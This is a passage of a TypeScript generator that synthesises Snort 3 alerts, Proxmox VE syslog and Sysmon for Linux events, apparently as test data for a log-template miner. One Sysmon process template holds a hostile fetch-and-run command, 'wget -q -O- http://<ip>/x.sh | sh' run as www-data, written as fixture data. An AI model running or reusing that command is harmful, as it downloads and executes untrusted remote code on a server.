// Generality set, round 17 (part 2): Snort 3's alert_fast, Proxmox VE nodes via rsyslog and Sysmon
// for Linux via rsyslog. Written before any round-17 miner change; UNTOUCHED (see formats-round17.ts).
import { Gen, T, v, MONTHS, type Made } from './gen-lib.js';
import type { FormatSpec } from './formats.js';
import { cat } from './formats-round3.js';
import { ROUND17_FORMATS_A } from './formats-round17.js';

const p2 = (n: number) => String(n).padStart(2, '0');
const p3 = (n: number) => String(n).padStart(3, '0');
const hms = (d: Date) => `${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
/** BSD syslog time as rsyslog's traditional file format writes it (`Jun  2 10:00:00`). */
const bsd = (t: number) => {
  const d = new Date(t);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${hms(d)}`;
};

// ---------------------------------------------------------------------------------------------
// 118. Snort 3.1 `alert_fast.txt` (`-y`: the year in the time) on an edge sensor with AppID, from
// the snort3 issues' pasted alert_fast lines, the Snort 3 manual's alert_fast description and Wazuh's
// Snort 3 decoder samples: `time [**] [gid:sid:rev] "msg" [**] [Classification: ..] [Priority: n]
// [AppID: ..] {PROTO} src:port -> dst:port`. One printer writes every alert, so the rule's ids and
// message, the classification, priority, application and protocol are parameters; which optional
// parts a line has (no classification for a built-in rule, no AppID before the application is
// known, no ports for ICMP) are other layouts, so other templates.

interface SnortRule {
  id: string;
  msg: string;
  cls: string | null;
  pri: number;
  proto: 'TCP' | 'UDP' | 'ICMP';
  port: number;
  app: string | null;
  w: number;
}
const SNORT_RULES: SnortRule[] = [
  { id: '1:2402000:7021', msg: 'ET DROP Dshield Block Listed Source group 1', cls: 'Misc Attack', pri: 2, proto: 'TCP', port: 22, app: null, w: 14 },
  { id: '1:2400001:3920', msg: 'ET DROP Spamhaus DROP Listed Traffic Inbound group 2', cls: 'Misc Attack', pri: 2, proto: 'TCP', port: 443, app: null, w: 8 },
  { id: '1:2001219:20', msg: 'ET SCAN Potential SSH Scan', cls: 'Attempted Information Leak', pri: 2, proto: 'TCP', port: 22, app: 'SSH', w: 10 },
  { id: '1:2010935:3', msg: 'ET SCAN Suspicious inbound to MSSQL port 1433', cls: 'Potentially Bad Traffic', pri: 2, proto: 'TCP', port: 1433, app: null, w: 6 },
  { id: '1:2010937:3', msg: 'ET SCAN Suspicious inbound to mySQL port 3306', cls: 'Potentially Bad Traffic', pri: 2, proto: 'TCP', port: 3306, app: null, w: 5 },
  { id: '1:2002911:6', msg: 'ET SCAN Potential VNC Scan 5900-5920', cls: 'Attempted Information Leak', pri: 2, proto: 'TCP', port: 5901, app: null, w: 3 },
  { id: '1:2008578:6', msg: 'ET SCAN Sipvicious Scan', cls: 'Attempted Information Leak', pri: 2, proto: 'UDP', port: 5060, app: 'SIP', w: 4 },
  { id: '1:1917:15', msg: 'INDICATOR-SCAN UPnP service discover attempt', cls: 'Detection of a Network Scan', pri: 3, proto: 'UDP', port: 1900, app: null, w: 3 },
  { id: '1:31978:5', msg: 'OS-OTHER Bash CGI environment variable injection attempt', cls: 'Attempted Administrator Privilege Gain', pri: 1, proto: 'TCP', port: 80, app: 'HTTP', w: 2 },
  { id: '1:2013028:7', msg: 'ET POLICY curl User-Agent Outbound', cls: 'Attempted Information Leak', pri: 2, proto: 'TCP', port: 80, app: 'HTTP', w: 5 },
  { id: '1:2027390:2', msg: 'ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent', cls: 'Unknown Traffic', pri: 3, proto: 'TCP', port: 80, app: 'HTTP', w: 2 },
  { id: '1:2034647:1', msg: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', cls: 'Attempted Administrator Privilege Gain', pri: 1, proto: 'TCP', port: 443, app: 'HTTP', w: 1.5 },
  { id: '1:384:8', msg: 'PROTOCOL-ICMP PING', cls: 'Misc activity', pri: 3, proto: 'ICMP', port: 0, app: null, w: 6 },
  { id: '1:408:8', msg: 'PROTOCOL-ICMP Echo Reply', cls: 'Misc activity', pri: 3, proto: 'ICMP', port: 0, app: null, w: 2 },
  { id: '119:31:1', msg: '(http_inspect) URI path contains consecutive slash characters', cls: null, pri: 3, proto: 'TCP', port: 80, app: 'HTTP', w: 5 },
  { id: '119:34:1', msg: '(http_inspect) too many pipelined requests', cls: null, pri: 3, proto: 'TCP', port: 80, app: 'HTTP', w: 1.5 },
  { id: '119:228:1', msg: '(http_inspect) HTTP request method is not known to Snort', cls: null, pri: 3, proto: 'TCP', port: 8080, app: null, w: 2 },
  { id: '129:20:1', msg: '(stream_tcp) TCP session without 3-way handshake', cls: null, pri: 3, proto: 'TCP', port: 443, app: null, w: 3 },
  { id: '116:434:1', msg: '(icmp4) ICMP ping Nmap', cls: null, pri: 3, proto: 'ICMP', port: 0, app: null, w: 2 },
];
const SNORT_TOTAL = SNORT_RULES.reduce((s, r) => s + r.w, 0);
const SERVERS = ['203.0.113.10', '203.0.113.11', '203.0.113.25', '10.10.0.5'];
function snortAlert(g: Gen): Made {
  let x = g.r() * SNORT_TOTAL;
  let rule = SNORT_RULES[0];
  for (const r of SNORT_RULES) if ((x -= r.w) < 0) { rule = r; break; }
  const d = new Date(g.now);
  const time = `${p2(d.getUTCFullYear() % 100)}/${p2(d.getUTCMonth() + 1)}/${p2(d.getUTCDate())}-${hms(d)}.${p3(d.getUTCMilliseconds())}${p3(g.int(0, 999))}`;
  const outbound = rule.msg.includes('Outbound') || rule.msg.includes('USER_AGENTS') || rule.msg.includes('Echo Reply');
  const inside = `10.10.${g.int(0, 3)}.${g.int(2, 250)}`;
  const outside = g.publicIp();
  const [src, dst] = outbound ? [inside, outside] : [outside, g.pick(SERVERS)];
  // AppID names the application only once it has seen enough of the flow
  const app = rule.app !== null && g.chance(0.8) ? rule.app : null;
  const head = T`${v(time)} [**] [${v(rule.id)}] "${v(rule.msg)}" [**] `;
  const cls = rule.cls === null ? T`` : T`[Classification: ${v(rule.cls)}] `;
  const pri = T`[Priority: ${v(rule.pri)}] `;
  const appPart = app === null ? T`` : T`[AppID: ${v(app)}] `;
  const flow =
    rule.proto === 'ICMP'
      ? T`{${v(rule.proto)}} ${v(src)} -> ${v(dst)}`
      : T`{${v(rule.proto)}} ${v(src)}:${v(outbound ? g.int(32768, 60999) : g.int(1024, 65535))} -> ${v(dst)}:${v(rule.port)}`;
  return cat(head, cls, pri, appPart, flow);
}
const snort: FormatSpec = {
  name: 'snort3-fast',
  split: 'tuned',
  description: 'Snort 3.1 `alert_fast.txt` with the year (`yy/mm/dd-time [**] [gid:sid:rev] "msg" [**] [Classification: ..] [Priority: n] [AppID: ..] {PROTO} src:port -> dst:port`): ET and community rule alerts (DROP lists, scans, policy, exploits), built-in inspector alerts without classification, ICMP without ports, lines with and without AppID',
  tickMs: 9000,
  templates: [
    { w: 10, make: (g) => snortAlert(g) },
    // a scanner sweeping one service trips the same rule on several hosts within a second
    {
      w: 1,
      make: (g) => {
        const out: Made[] = [];
        for (let i = 0, n = g.int(3, 8); i < n; i++) {
          g.tick(120);
          out.push(snortAlert(g));
        }
        return out;
      },
    },
  ],
};

// ---------------------------------------------------------------------------------------------
// 119. Proxmox VE 8.2, a three-node cluster's syslog via rsyslog (`Jun 12 10:00:00 pve01
// pvedaemon[2345]: ...`), from Proxmox issues and forum threads with pasted journals, the
// pve-devel list and LogZilla's Proxmox app notes: API tasks (`<user> starting task UPID:...`,
// `end task UPID:... OK`), logins and failures, pveproxy worker recycling, pmxcfs and corosync
// (KNET link flaps, TOTEM retransmits, quorum), VM starts with their tap/bridge kernel lines,
// scheduled backups, pvestatd timeouts and offline storage, HA lock lines. The program is part of
// the statement (its pid a header value), as is corosync's `[KNET  ]` subsystem tag; a UPID (one
// identifier, its task type and guest id inside) is one parameter, as is a task's end status.

const PVE_NODES = ['pve01', 'pve02', 'pve03'];
const PVE_PIDS: Record<string, Record<string, number>> = {
  pve01: { pvedaemon: 1642, pveproxy: 1671, pvestatd: 1601, pmxcfs: 1207, corosync: 1398, pvescheduler: 1703, 'pve-ha-lrm': 1688, qmeventd: 972 },
  pve02: { pvedaemon: 1588, pveproxy: 1620, pvestatd: 1561, pmxcfs: 1180, corosync: 1366, pvescheduler: 1650, 'pve-ha-lrm': 1641, qmeventd: 960 },
  pve03: { pvedaemon: 1611, pveproxy: 1649, pvestatd: 1570, pmxcfs: 1191, corosync: 1375, pvescheduler: 1677, 'pve-ha-lrm': 1660, qmeventd: 968 },
};
/** Guest ids: VMs below 120, containers from 120. */
const PVE_GUESTS: Record<string, number[]> = { pve01: [101, 102, 105, 110], pve02: [103, 104, 111], pve03: [106, 107, 120, 121] };
const PVE_USERS = ['root@pam', 'root@pam', 'ops@pve', 'backup@pve', 'terraform@pve!ci'];
/** A line of `prog` on `node`; `pid` is a worker's or a task's process (the daemon's own pid otherwise). */
function pve(g: Gen, node: string, prog: string, msg: Made, pid = PVE_PIDS[node][prog] ?? g.int(2000, 3999999)): Made {
  return cat(T`${v(bsd(g.now))} ${v(node)} ${prog}[${v(pid)}]: `, msg);
}
/** pvedaemon and pveproxy serve requests from three worker processes each (recycled now and then). */
const worker = (g: Gen, node: string, prog: string) => PVE_PIDS[node][prog] + 1000 * g.int(1, 3) + (Math.floor(g.now / 3600000) % 7);
const hex8 = (n: number) => n.toString(16).toUpperCase().padStart(8, '0');
/** A task's UPID (`UPID:node:pid:pstart:starttime:type:id:user:`) and the pid of the task's process. */
const upid = (g: Gen, node: string, type: string, id: string, user: string) => {
  const pid = g.int(0x1000, 0x3fffff);
  return { u: `UPID:${node}:${hex8(pid)}:${hex8(g.int(0x100000, 0xfffffff))}:${hex8(Math.floor(g.now / 1000))}:${type}:${id}:${user}:`, pid };
};
const kern = (g: Gen, node: string, msg: Made) => cat(T`${v(bsd(g.now))} ${v(node)} kernel: `, msg);
function vmStart(g: Gen): Made[] {
  const node = g.pick(PVE_NODES);
  const vmid = g.pick(PVE_GUESTS[node].filter((x) => x < 120));
  const user = g.pick(PVE_USERS);
  const { u, pid } = upid(g, node, 'qmstart', String(vmid), user);
  const w = worker(g, node, 'pvedaemon');
  const port = g.int(2, 9);
  return [
    pve(g, node, 'pvedaemon', T`<${v(user)}> starting task ${v(u)}`, w),
    pve(g, node, 'pvedaemon', T`start VM ${v(vmid)}: ${v(u)}`, pid),
    cat(T`${v(bsd(g.now))} ${v(node)} systemd[${v(1)}]: Started ${v(`${vmid}.scope`)}.`),
    kern(g, node, T`${v(`tap${vmid}i0`)}: entered promiscuous mode`),
    kern(g, node, T`${v('vmbr0')}: port ${v(port)}(${v(`fwpr${vmid}p0`)}) entered ${v('blocking')} state`),
    kern(g, node, T`${v('vmbr0')}: port ${v(port)}(${v(`fwpr${vmid}p0`)}) entered ${v('disabled')} state`),
    kern(g, node, T`${v(`fwpr${vmid}p0`)}: entered allmulticast mode`),
    kern(g, node, T`${v('vmbr0')}: port ${v(port)}(${v(`fwpr${vmid}p0`)}) entered ${v('forwarding')} state`),
    pve(g, node, 'pvedaemon', T`<${v(user)}> end task ${v(u)} ${v('OK')}`, w),
  ];
}
function vmStop(g: Gen): Made[] {
  const node = g.pick(PVE_NODES);
  const vmid = g.pick(PVE_GUESTS[node].filter((x) => x < 120));
  const user = g.pick(PVE_USERS);
  const { u } = upid(g, node, g.pick(['qmshutdown', 'qmshutdown', 'qmstop', 'qmreboot']), String(vmid), user);
  const w = worker(g, node, 'pvedaemon');
  const port = g.int(2, 9);
  return [
    pve(g, node, 'pvedaemon', T`<${v(user)}> starting task ${v(u)}`, w),
    kern(g, node, T`${v(`tap${vmid}i0`)}: left allmulticast mode`),
    kern(g, node, T`${v('vmbr0')}: port ${v(port)}(${v(`fwpr${vmid}p0`)}) entered ${v('disabled')} state`),
    pve(g, node, 'qmeventd', T`read: Connection reset by peer`),
    cat(T`${v(bsd(g.now))} ${v(node)} systemd[${v(1)}]: ${v(`${vmid}.scope`)}: Deactivated successfully.`),
    pve(g, node, 'qmeventd', T`Starting cleanup for ${v(vmid)}`),
    pve(g, node, 'qmeventd', T`Finished cleanup for ${v(vmid)}`),
    pve(g, node, 'pvedaemon', T`<${v(user)}> end task ${v(u)} ${v('OK')}`, w),
  ];
}
function knetFlap(g: Gen): Made[] {
  const node = g.pick(PVE_NODES);
  const peer = g.pick([1, 2, 3].filter((h) => `pve0${h}` !== node));
  const c = (m: Made) => pve(g, node, 'corosync', cat(T`  `, m));
  const out = [c(T`[KNET  ] link: host: ${v(peer)} link: ${v(0)} is down`), c(T`[KNET  ] host: host: ${v(peer)} (passive) best link: ${v(0)} (pri: ${v(1)})`), c(T`[KNET  ] host: host: ${v(peer)} has no active links`)];
  if (g.chance(0.5)) out.push(c(T`[TOTEM ] Token has not been received in ${v(g.int(2700, 4000))} ms`));
  out.push(c(T`[KNET  ] rx: host: ${v(peer)} link: ${v(0)} is up`), c(T`[KNET  ] link: Resetting MTU for link ${v(0)} because host ${v(peer)} joined`), c(T`[KNET  ] host: host: ${v(peer)} (passive) best link: ${v(0)} (pri: ${v(1)})`));
  out.push(c(T`[KNET  ] pmtud: Global data MTU changed to: ${v(1397)}`));
  return out;
}
function backupRun(g: Gen): Made[] {
  const node = g.pick(PVE_NODES);
  const { u, pid } = upid(g, node, 'vzdump', '', 'root@pam');
  const out: Made[] = [pve(g, node, 'pvescheduler', T`<${v('root@pam')}> starting task ${v(u)}`)];
  out.push(pve(g, node, 'pvescheduler', T`INFO: starting new backup job: vzdump ${v(`--mode snapshot --storage ${g.pick(['nfs-backup', 'pbs-offsite'])} --node ${node} --all 1 --mailnotification failure --compress zstd --quiet 1`)}`, pid));
  for (const vmid of PVE_GUESTS[node].slice(0, g.int(1, PVE_GUESTS[node].length))) {
    const kind = vmid >= 120 ? 'lxc' : 'qemu';
    out.push(pve(g, node, 'pvescheduler', T`INFO: Starting Backup of VM ${v(vmid)} (${v(kind)})`, pid));
    const secs = g.int(20, 1800);
    out.push(pve(g, node, 'pvescheduler', T`INFO: Finished Backup of VM ${v(vmid)} (${v(`${p2(Math.floor(secs / 3600))}:${p2(Math.floor(secs / 60) % 60)}:${p2(secs % 60)}`)})`, pid));
  }
  out.push(pve(g, node, 'pvescheduler', T`INFO: Backup job finished successfully`, pid));
  out.push(pve(g, node, 'pvescheduler', T`<${v('root@pam')}> end task ${v(u)} ${v(g.chance(0.85) ? 'OK' : 'WARNINGS: 1')}`));
  return out;
}
const proxmox: FormatSpec = {
  name: 'proxmox-ve',
  split: 'tuned',
  description: 'Proxmox VE 8.2 three-node cluster via rsyslog (`date node program[pid]: message`): API tasks with UPIDs (starting/end task), VM starts and stops with systemd scopes and tap/bridge kernel lines, logins and authentication failures, pveproxy worker recycling, pmxcfs notices, corosync KNET link flaps and TOTEM/QUORUM lines, scheduled vzdump backups, qmp timeouts, offline storage, HA locks',
  tickMs: 12000,
  templates: [
    { w: 14, make: (g) => pve(g, g.pick(PVE_NODES), 'pmxcfs', T`[status] notice: received log`) },
    {
      w: 7,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const user = g.pick(PVE_USERS.slice(0, 3));
        return pve(g, node, 'pvedaemon', T`<${v(user)}> successful auth for user '${v(user)}'`, worker(g, node, 'pvedaemon'));
      },
    },
    {
      w: 6,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const old = worker(g, node, 'pveproxy');
        return [pve(g, node, 'pveproxy', T`worker ${v(old)} finished`), pve(g, node, 'pveproxy', T`starting ${v(1)} worker(s)`), pve(g, node, 'pveproxy', T`worker ${v(old + g.int(1, 9000))} started`)];
      },
    },
    {
      w: 7,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const vmid = g.pick(PVE_GUESTS[node]);
        const user = g.pick(PVE_USERS.slice(0, 3));
        const kind = vmid >= 120 ? 'vncproxy' : g.pick(['vncproxy', 'vncproxy', 'qmsnapshot']);
        const { u } = upid(g, node, kind, String(vmid), user);
        const w = worker(g, node, 'pvedaemon');
        return [pve(g, node, 'pvedaemon', T`<${v(user)}> starting task ${v(u)}`, w), pve(g, node, 'pvedaemon', T`<${v(user)}> end task ${v(u)} ${v('OK')}`, w)];
      },
    },
    {
      w: 3,
      make: (g) =>
        pve(g, g.pick(PVE_NODES), 'pvedaemon', T`authentication failure; rhost=${v(`::ffff:${g.chance(0.6) ? g.publicIp() : g.privateIp()}`)} user=${v(g.pick(['root@pam', 'root@pam', 'admin@pve', 'admin@pam', 'test@pam']))} msg=${v(g.pick(['Authentication failure', 'no such user (admin@pam)', 'invalid credentials']))}`, worker(g, g.pick(PVE_NODES), 'pvedaemon')),
    },
    { w: 3, make: (g) => pve(g, g.pick(PVE_NODES), 'pvestatd', T`status update time (${v(g.float(5, 14, 3))} seconds)`) },
    {
      w: 1.5,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const vmid = g.pick(PVE_GUESTS[node].filter((x) => x < 120));
        return pve(g, node, 'pvestatd', T`VM ${v(vmid)} qmp command failed - VM ${v(vmid)} qmp command '${v(g.pick(['query-proxmox-support', 'query-proxmox-support', 'guest-ping']))}' failed - ${v(g.pick(['got timeout', 'unable to connect to VM ' + vmid + ' qmp socket - timeout after 51 retries']))}`);
      },
    },
    { w: 1.5, make: (g) => pve(g, g.pick(PVE_NODES), 'pvestatd', T`storage '${v(g.pick(['nfs-backup', 'nfs-backup', 'pbs-offsite']))}' is not online`) },
    {
      w: 1.5,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        return pve(g, node, 'pveproxy', T`proxy detected vanished client connection`, worker(g, node, 'pveproxy'));
      },
    },
    { w: 1.5, make: (g) => pve(g, g.pick(PVE_NODES), 'pmxcfs', T`[dcdb] notice: data verification successful`) },
    { w: 1.2, make: (g) => vmStart(g) },
    { w: 1, make: (g) => vmStop(g) },
    { w: 0.8, make: (g) => knetFlap(g) },
    {
      w: 0.8,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const seq = Array.from({ length: g.int(1, 4) }, () => g.int(16, 4000).toString(16));
        return pve(g, node, 'corosync', T`  [TOTEM ] Retransmit List: ${v(seq.join(' '))}`);
      },
    },
    { w: 0.25, make: (g) => backupRun(g) },
    {
      w: 0.3,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        const ring = `1.${g.int(0x20, 0x9f).toString(16)}`;
        return [
          pve(g, node, 'corosync', T`  [QUORUM] Sync members[${v(3)}]: ${v('1 2 3')}`),
          pve(g, node, 'corosync', T`  [TOTEM ] A new membership (${v(ring)}) was formed. Members joined: ${v(g.int(1, 3))}`),
          pve(g, node, 'pmxcfs', T`[status] notice: members: ${v('1/1207, 2/1180, 3/1191')}`),
          pve(g, node, 'corosync', T`  [QUORUM] Members[${v(3)}]: ${v('1 2 3')}`),
          pve(g, node, 'corosync', T`  [MAIN  ] Completed service synchronization, ready to provide service.`),
          pve(g, node, 'pmxcfs', T`[dcdb] notice: all data is up to date`),
        ];
      },
    },
    {
      w: 0.3,
      make: (g) => {
        const node = g.pick(PVE_NODES);
        return [pve(g, node, 'pve-ha-lrm', T`successfully acquired lock '${v(`ha_agent_${node}_lock`)}'`), pve(g, node, 'pve-ha-lrm', T`status change ${v('wait_for_agent_lock')} => ${v('active')}`)];
      },
    },
  ],
};

// ---------------------------------------------------------------------------------------------
// 120. Sysmon for Linux 1.3 (default config plus NetworkConnect) on three servers, via rsyslog to
// /var/log/syslog (`date host sysmon[pid]: <Event>...</Event>`, the whole XML event on one line),
// from microsoft/SysmonForLinux issues with pasted events, Sigma and Wazuh pull requests quoting
// them and Sysmon's event schema. Structured rule for XML: element and attribute names (the
// `Data Name="..."` keys included) are the statement and `EventID` names the record (constant, as
// auditd's `type=`); every other element text or attribute value is a variable. Values are XML
// escaped (`&quot;`, `&amp;`) as Sysmon writes them.

const SYS_HOSTS = ['web-01', 'web-02', 'db-01'];
const SYS_PID: Record<string, number> = { 'web-01': 812, 'web-02': 797, 'db-01': 834 };
const HOST_GUID: Record<string, string> = { 'web-01': 'c30c9345', 'web-02': '5d1e7a20', 'db-01': '9f2b41c8' };
const xmlEsc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const utc = (t: number) => new Date(t).toISOString().replace('T', ' ').slice(0, 23);
const pguid = (g: Gen, host: string) => `{${HOST_GUID[host]}-${g.hex(4)}-${g.hex(4)}-${g.hex(4)}-${g.hex(8)}0000}`;
function sysmon(g: Gen, host: string, id: number, version: number, task: number, data: Array<[string, string]>): Made {
  const sys = T`<Event><System><Provider Name="${v('Linux-Sysmon')}" Guid="${v('{ff032593-a8d3-4f13-b0d6-01fc615a0f97}')}"/><EventID>${id}</EventID><Version>${v(version)}</Version><Level>${v(4)}</Level><Task>${v(task)}</Task><Opcode>${v(0)}</Opcode><Keywords>${v('0x8000000000000000')}</Keywords><TimeCreated SystemTime="${v(`${new Date(g.now).toISOString().slice(0, 23)}${p3(g.int(0, 999))}000Z`)}"/><EventRecordID>${v(Math.floor((g.now - Date.UTC(2024, 5, 1)) / 40) + g.int(0, 9))}</EventRecordID><Correlation/><Execution ProcessID="${v(SYS_PID[host])}" ThreadID="${v(SYS_PID[host])}"/><Channel>${v('Linux-Sysmon/Operational')}</Channel><Computer>${v(host)}</Computer><Security UserId="${v(0)}"/></System><EventData>`;
  const fields = data.map(([k, val]) => T`<Data Name="${k}">${v(xmlEsc(val))}</Data>`);
  return cat(T`${v(bsd(g.now))} ${v(host)} sysmon[${v(SYS_PID[host])}]: `, sys, ...fields, T`</EventData></Event>`);
}
interface Proc {
  image: string;
  cmd: string;
  cwd: string;
  user: string;
  parent: string;
  parentCmd: string;
  parentUser: string;
}
const PROCS: Array<(g: Gen, host: string) => Proc> = [
  (g) => ({ image: '/usr/bin/curl', cmd: `curl -fsS -m 10 --retry 5 https://hc-ping.com/${g.uuid()}`, cwd: '/root', user: 'root', parent: '/bin/sh', parentCmd: `/bin/sh -c curl -fsS -m 10 --retry 5 https://hc-ping.com/${g.uuid()} > /dev/null`, parentUser: 'root' }),
  (g) => ({ image: '/usr/bin/php8.2', cmd: '/usr/bin/php8.2 /var/www/shop/artisan schedule:run', cwd: '/var/www/shop', user: 'www-data', parent: '/bin/sh', parentCmd: '/bin/sh -c cd /var/www/shop && php artisan schedule:run >> /dev/null 2>&1', parentUser: 'www-data' }),
  () => ({ image: '/usr/sbin/logrotate', cmd: '/usr/sbin/logrotate /etc/logrotate.conf', cwd: '/', user: 'root', parent: '/usr/lib/systemd/systemd', parentCmd: '/sbin/init', parentUser: 'root' }),
  (g) => {
    const u = g.pick(['deploy', 'alice', 'bob']);
    return { image: '/usr/bin/bash', cmd: '-bash', cwd: `/home/${u}`, user: u, parent: '/usr/sbin/sshd', parentCmd: `sshd: ${u} [priv]`, parentUser: 'root' };
  },
  (g) => {
    const u = g.pick(['deploy', 'alice']);
    return { image: '/usr/bin/sudo', cmd: `sudo systemctl ${g.pick(['restart', 'reload', 'status'])} ${g.pick(['nginx', 'php8.2-fpm', 'postgresql'])}`, cwd: `/home/${u}`, user: 'root', parent: '/usr/bin/bash', parentCmd: '-bash', parentUser: u };
  },
  (g) => ({ image: '/usr/bin/python3.11', cmd: `/usr/bin/python3 /opt/backup/pg_backup.py --target s3://acme-backups/${g.pick(['daily', 'hourly'])}`, cwd: '/opt/backup', user: 'postgres', parent: '/bin/sh', parentCmd: '/bin/sh -c /usr/bin/python3 /opt/backup/pg_backup.py', parentUser: 'postgres' }),
  (g) => ({ image: '/usr/bin/git', cmd: `git -C /var/www/shop fetch --quiet origin ${g.pick(['main', 'release/2024.06'])}`, cwd: '/var/www/shop', user: 'deploy', parent: '/usr/bin/bash', parentCmd: '/usr/bin/bash /opt/deploy/deploy.sh', parentUser: 'deploy' }),
  () => ({ image: '/usr/bin/apt-get', cmd: 'apt-get -qq update', cwd: '/', user: 'root', parent: '/usr/bin/python3.11', parentCmd: '/usr/bin/python3 /usr/bin/unattended-upgrade', parentUser: 'root' }),
  (g) => ({ image: '/usr/bin/wget', cmd: `wget -q -O- http://${g.publicIp()}/x.sh`, cwd: '/tmp', user: 'www-data', parent: '/bin/sh', parentCmd: `sh -c wget -q -O- http://${g.publicIp()}/x.sh | sh`, parentUser: 'www-data' }),
];
function sysProc(g: Gen, host: string, p: Proc, guid: string, pid: number): Array<[string, string]> {
  return [
    ['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', guid], ['ProcessId', String(pid)], ['Image', p.image], ['FileVersion', '-'], ['Description', '-'], ['Product', '-'], ['Company', '-'], ['OriginalFileName', '-'],
    ['CommandLine', p.cmd], ['CurrentDirectory', p.cwd], ['User', p.user], ['LogonGuid', `{${HOST_GUID[host]}-0000-0000-${p.user === 'root' ? '0000' : 'e803'}-000001000000}`], ['LogonId', p.user === 'root' ? '0' : '1000'], ['TerminalSessionId', String(g.int(1, 900))], ['IntegrityLevel', 'no level'], ['Hashes', '-'],
    ['ParentProcessGuid', pguid(g, host)], ['ParentProcessId', String(pid - g.int(1, 40))], ['ParentImage', p.parent], ['ParentCommandLine', p.parentCmd], ['ParentUser', p.parentUser],
  ];
}
function sysmonProcess(g: Gen): Made[] {
  const host = g.pick(SYS_HOSTS);
  const p = g.pickSkewed(PROCS)(g, host);
  const guid = pguid(g, host);
  const pid = g.int(10000, 4000000);
  const out = [sysmon(g, host, 1, 5, 1, sysProc(g, host, p, guid, pid))];
  if (p.image.endsWith('curl') || p.image.endsWith('wget') || p.image.endsWith('git') || p.image.includes('apt')) {
    const dst = g.publicIp();
    const dport = p.image.endsWith('wget') ? 80 : 443;
    out.push(sysmon(g, host, 3, 5, 3, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', guid], ['ProcessId', String(pid)], ['Image', p.image], ['User', p.user], ['Protocol', 'tcp'], ['Initiated', 'true'], ['SourceIsIpv6', 'false'], ['SourceIp', `10.20.1.${host === 'db-01' ? 30 : host === 'web-01' ? 11 : 12}`], ['SourceHostname', '-'], ['SourcePort', String(g.int(32768, 60999))], ['SourcePortName', '-'], ['DestinationIsIpv6', 'false'], ['DestinationIp', dst], ['DestinationHostname', '-'], ['DestinationPort', String(dport)], ['DestinationPortName', dport === 443 ? 'https' : 'http']]));
  }
  if (g.chance(0.35)) {
    const target = p.image.endsWith('logrotate') ? `/var/log/nginx/access.log.${g.int(1, 9)}.gz` : p.image.includes('python') ? `/var/backups/pg/shop-${new Date(g.now).toISOString().slice(0, 10)}.dump` : `/tmp/${g.pick(['tmp', 'sess_', 'php'])}${g.alnum(8)}`;
    out.push(sysmon(g, host, 11, 2, 11, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', guid], ['ProcessId', String(pid)], ['Image', p.image], ['TargetFilename', target], ['CreationUtcTime', utc(g.now)], ['User', p.user]]));
  }
  g.tick(3000);
  out.push(sysmon(g, host, 5, 3, 5, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', guid], ['ProcessId', String(pid)], ['Image', p.image], ['User', p.user]]));
  return out;
}
const sysmonLinux: FormatSpec = {
  name: 'sysmon-linux',
  split: 'tuned',
  description: 'Sysmon for Linux 1.3 via rsyslog (`date host sysmon[pid]: <Event><System>...</System><EventData><Data Name="..">..</Data>...</EventData></Event>` on one line): process creation (EventID 1) and termination (5), network connections (3), file creates (11) and deletes (23), raw disk reads (9), service state (4) and config changes (16)',
  tickMs: 15000,
  templates: [
    { w: 20, make: (g) => sysmonProcess(g) },
    {
      w: 5,
      make: (g) => {
        const host = g.pick(SYS_HOSTS.slice(0, 2));
        const inbound = g.chance(0.7);
        return sysmon(g, host, 3, 5, 3, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', pguid(g, host)], ['ProcessId', String(g.int(900, 3000))], ['Image', inbound ? '/usr/sbin/nginx' : '/usr/sbin/php-fpm8.2'], ['User', 'www-data'], ['Protocol', 'tcp'], ['Initiated', inbound ? 'false' : 'true'], ['SourceIsIpv6', 'false'], ['SourceIp', inbound ? g.publicIp() : '10.20.1.11'], ['SourceHostname', '-'], ['SourcePort', String(g.int(1024, 65535))], ['SourcePortName', '-'], ['DestinationIsIpv6', 'false'], ['DestinationIp', inbound ? '10.20.1.11' : '10.20.1.30'], ['DestinationHostname', '-'], ['DestinationPort', inbound ? '443' : '5432'], ['DestinationPortName', inbound ? 'https' : 'postgresql']]);
      },
    },
    {
      w: 3,
      make: (g) => {
        const host = g.pick(SYS_HOSTS);
        const f = `/var/www/shop/storage/framework/cache/data/${g.hex(2)}/${g.hex(2)}/${g.hex(40)}`;
        return sysmon(g, host, 23, 5, 23, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', pguid(g, host)], ['ProcessId', String(g.int(900, 3000))], ['User', 'www-data'], ['Image', '/usr/sbin/php-fpm8.2'], ['TargetFilename', g.chance(0.7) ? f : `/tmp/php${g.alnum(6)}`], ['Hashes', `SHA256=${g.hex(64).toUpperCase()}`], ['IsExecutable', 'false'], ['Archived', 'false']]);
      },
    },
    {
      w: 0.6,
      make: (g) => {
        const host = g.pick(SYS_HOSTS);
        return sysmon(g, host, 9, 2, 9, [['RuleName', '-'], ['UtcTime', utc(g.now)], ['ProcessGuid', pguid(g, host)], ['ProcessId', String(g.int(10000, 4000000))], ['Image', g.pick(['/usr/sbin/fdisk', '/usr/sbin/blkid', '/usr/lib/udisks2/udisksd'])], ['Device', g.pick(['/dev/sda', '/dev/nvme0n1', '/dev/sda1'])], ['User', 'root']]);
      },
    },
    {
      w: 0.4,
      make: (g) => {
        const host = g.pick(SYS_HOSTS);
        return [
          sysmon(g, host, 4, 3, 4, [['UtcTime', utc(g.now)], ['State', 'Started'], ['Version', '1.3.3'], ['SchemaVersion', '4.81']]),
